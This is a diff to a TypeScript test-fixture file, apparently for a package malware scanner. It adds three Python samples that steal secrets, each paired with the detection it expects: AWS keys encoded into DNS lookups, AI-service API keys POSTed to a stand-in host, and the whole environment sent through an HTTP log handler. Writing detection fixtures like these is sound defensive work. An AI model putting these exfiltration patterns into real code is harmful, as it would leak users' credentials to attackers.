@@ -137,4 +137,25 @@ export const PYTHON: Samples['malicious'] = [
       { rule: 'environment', file: 'own/deep.py', line: 3, severity: 'high' },
     ],
   },
+  {
+    name: 'Python: a key in a name that is looked up',
+    files: wheel(
+      "import base64, os, socket\ndef valid():\n    key = base64.b32encode(os.environ['AWS_SECRET_ACCESS_KEY'].encode()).decode()\n    socket.gethostbyname(key + '.own.weir.test')\n",
+    ),
+    expected: [{ rule: 'secrets', file: 'own/__init__.py', line: 4, severity: 'high' }],
+  },
+  {
+    name: 'Python: keys of several services to a fourth',
+    files: wheel(
+      "import os, requests\ndef ping():\n    names = ('OPENAI_API_KEY', 'ANTHROPIC_API_KEY', 'GEMINI_API_KEY')\n    requests.post('https://a.weir.test/v1', json={name: os.getenv(name) for name in names})\n",
+    ),
+    expected: [{ rule: 'secrets', file: 'own/__init__.py', line: 4, severity: 'high' }],
+  },
+  {
+    name: 'Python: the environment in a log that is sent',
+    files: wheel(
+      "import logging.handlers, os\nlog = logging.getLogger('own')\nlog.addHandler(logging.handlers.HTTPHandler('logs.weir.test', '/in'))\nlog.warning('x', extra=dict(os.environ))\n",
+    ),
+    expected: [{ rule: 'environment', file: 'own/__init__.py', line: 4, severity: 'high' }],
+  },
 ];
